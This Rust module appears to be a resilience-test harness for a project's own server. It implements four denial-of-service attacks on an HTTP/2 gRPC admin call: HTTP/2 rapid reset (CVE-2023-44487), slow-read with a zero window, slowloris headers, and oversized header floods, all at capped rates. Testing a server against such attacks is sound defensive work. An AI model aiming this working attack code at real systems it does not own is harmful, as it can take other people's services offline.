//! The attackers.

use std::io::Read as _;
use std::process::ExitCode;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use clap::{Args, ValueEnum};
use h2::client::{self, SendRequest};
use http::Request;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;

const CALL: &str = "/tau.runtime.v1.AdminService/GetInfo";

/// What is sent is bounded, so that what is measured is the server and not how much of the machine is left: 8,000 resets
/// and 1,000 requests with too many headers a second, from four connections; a thousand heads, a byte each half second.
const RESETS_AT_ONCE: usize = 20;
const RESET_PAUSE: Duration = Duration::from_millis(10);
const FLOOD_PAUSE: Duration = Duration::from_millis(4);
const SLOW_PAUSE: Duration = Duration::from_millis(500);

/// How a server is attacked.
#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
pub(super) enum Attack {
    /// Calls that are opened and taken back at once (CVE-2023-44487)
    RapidReset,
    /// Answers that are asked for and not read
    SlowRead,
    /// Heads of requests that come a byte at a time (slowloris)
    SlowHeaders,
    /// Requests with more headers than a server takes
    HeaderFlood,
}

impl Attack {
    pub(super) fn name(self) -> String {
        self.to_possible_value().map(|value| value.get_name().to_owned()).unwrap_or_default()
    }

    /// Attackers at a time.
    fn attackers(self) -> usize {
        match self {
            Self::RapidReset | Self::HeaderFlood => 4,
            Self::SlowRead => 100,
            Self::SlowHeaders => 1_000,
        }
    }
}

/// What an attacker is told.
#[derive(Debug, Clone, Args)]
pub(super) struct Options {
    attack: Attack,
    address: String,
    token: String,
}

/// What was sent so far.
#[derive(Debug, Default)]
struct Sent {
    connections: AtomicUsize,
    requests: AtomicUsize,
}

/// Attacks until standard input ends, and says how much.
pub(super) async fn run(options: &Options) -> anyhow::Result<ExitCode> {
    let sent = Arc::new(Sent::default());
    for _ in 0..options.attack.attackers() {
        let (options, sent) = (options.clone(), Arc::clone(&sent));
        tokio::spawn(async move {
            loop {
                // A server that closes its door is knocked at again.
                if once(&options, &sent).await.is_err() {
                    tokio::time::sleep(Duration::from_millis(1)).await;
                }
            }
        });
    }
    // What is asked for once is asked for before anybody measures.
    tokio::time::sleep(Duration::from_secs(1)).await;
    println!("attacking");
    tokio::task::spawn_blocking(|| std::io::stdin().read_to_end(&mut Vec::new())).await??;
    println!(
        "{} requests on {} connections",
        sent.requests.load(Ordering::Relaxed),
        sent.connections.load(Ordering::Relaxed)
    );
    Ok(ExitCode::SUCCESS)
}

/// One connection, from its beginning until it is closed or has served.
async fn once(options: &Options, sent: &Sent) -> anyhow::Result<()> {
    let stream = TcpStream::connect(&options.address).await?;
    sent.connections.fetch_add(1, Ordering::Relaxed);
    match options.attack {
        Attack::RapidReset => reset_rapidly(stream, options, sent).await,
        Attack::SlowRead => read_slowly(stream, options, sent).await,
        Attack::SlowHeaders => send_slowly(stream, sent).await,
        Attack::HeaderFlood => flood(stream, sent).await,
    }
}

fn request(options: &Options) -> anyhow::Result<Request<()>> {
    let request = Request::post(format!("http://{}{CALL}", options.address));
    let request = request.header("content-type", "application/proto");
    Ok(request.header("authorization", format!("Bearer {}", options.token)).body(())?)
}

async fn reset_rapidly(stream: TcpStream, options: &Options, sent: &Sent) -> anyhow::Result<()> {
    let (mut sender, connection) = client::handshake(stream).await?;
    let driven = tokio::spawn(connection);
    while !driven.is_finished() {
        for _ in 0..RESETS_AT_ONCE {
            sender = sender.ready().await?;
            let (_, mut call) = sender.send_request(request(options)?, false)?;
            call.send_reset(h2::Reason::CANCEL);
            sent.requests.fetch_add(1, Ordering::Relaxed);
        }
        tokio::time::sleep(RESET_PAUSE).await;
    }
    Ok(())
}

/// As many calls as a connection may have, with a window that lets not a byte of an answer through.
async fn read_slowly(stream: TcpStream, options: &Options, sent: &Sent) -> anyhow::Result<()> {
    const CALLS: usize = 100;
    let (mut sender, connection): (SendRequest<bytes::Bytes>, _) =
        client::Builder::new().initial_window_size(0).handshake(stream).await?;
    let driven = tokio::spawn(connection);
    let mut held = Vec::new();
    for _ in 0..CALLS {
        sender = sender.ready().await?;
        held.push(sender.send_request(request(options)?, true)?.0);
        sent.requests.fetch_add(1, Ordering::Relaxed);
    }
    driven.await??;
    Ok(())
}

async fn send_slowly(mut stream: TcpStream, sent: &Sent) -> anyhow::Result<()> {
    sent.requests.fetch_add(1, Ordering::Relaxed);
    stream.write_all(format!("POST {CALL} HTTP/1.1\r\nhost: localhost\r\nx-slow: ").as_bytes()).await?;
    loop {
        tokio::time::sleep(SLOW_PAUSE).await;
        stream.write_all(b"a").await?;
    }
}

async fn flood(mut stream: TcpStream, sent: &Sent) -> anyhow::Result<()> {
    let many: String = (0..2_000).map(|number| format!("x-{number}: {number}\r\n")).collect();
    let request = format!("POST {CALL} HTTP/1.1\r\nhost: localhost\r\n{many}content-length: 0\r\n\r\n");
    loop {
        stream.write_all(request.as_bytes()).await?;
        sent.requests.fetch_add(1, Ordering::Relaxed);
        tokio::time::sleep(FLOOD_PAUSE).await;
        stream.read_exact(&mut [0]).await?;
    }
}
